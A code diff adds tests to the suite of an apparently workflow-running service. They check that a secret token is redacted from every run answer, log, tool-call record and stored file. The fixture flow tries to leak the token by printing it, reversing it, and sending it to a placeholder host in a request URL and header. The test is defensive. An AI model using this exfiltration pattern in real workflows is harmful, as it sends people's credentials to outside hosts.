@@ -56,3 +56,46 @@ async def test_the_key_is_rotated_while_the_service_goes_on(api: Api) -> None:
     with pytest.raises(StepboxError, match="this value already"):
         await service.rotate_secret("hook_key", f"{VALUE}2", overlap=60)
     await service.close()
+
+
+LEAK = """\
+flow: leak
+steps:
+  - id: one
+    secrets: [token]
+    tools: [http.request]
+    python: |
+      print(secrets.token, secrets.token[::-1])
+      try:
+          tools.request(url="https://nowhere.invalid/" + secrets.token, headers={"x-key": secrets.token})
+      except Exception as error:
+          print(error)
+      return {secrets.token: secrets.token}
+output: ${{ steps.one.result }}
+"""
+
+
+async def test_a_flow_whose_secret_is_not_set_is_refused_with_what_sets_it(api: Api) -> None:
+    refused = await api.client.put("/api/v1/flows/leak", json={"text": LEAK})
+    assert refused.status_code in {404, 422}
+    assert (refused.json()["code"], refused.json()["fix"]) == ("unknown_secret", "set it: stepbox secrets set token")
+    assert (await api.call("GET", "/flows"))["items"] == []
+
+
+async def test_no_answer_shows_what_a_run_was_given(api: Api) -> None:
+    await api.call("PUT", "/secrets/token", json={"value": VALUE})
+    await api.put(LEAK)
+    run = await api.call("POST", "/flows/leak/runs?wait=60", json={})
+    assert (run["status"], run["output"]) == ("succeeded", {"•••": "•••"})
+    answers = [str(run)]
+    for path in ("", "/steps", "/logs", "/tool-calls", "/egress", "/artifacts", "/events"):
+        answer = await api.client.get(f"/api/v1/runs/{run['run_id']}{path}")
+        assert answer.status_code == 200
+        answers.append(answer.text)
+    assert "${{ secrets.token }}" in answers[4]
+    assert "•••" in answers[7]
+    for text in answers:
+        assert VALUE not in text
+        assert VALUE[::-1] not in text
+    for path in api.home.rglob("*"):
+        assert not path.is_file() or VALUE.encode() not in path.read_bytes()
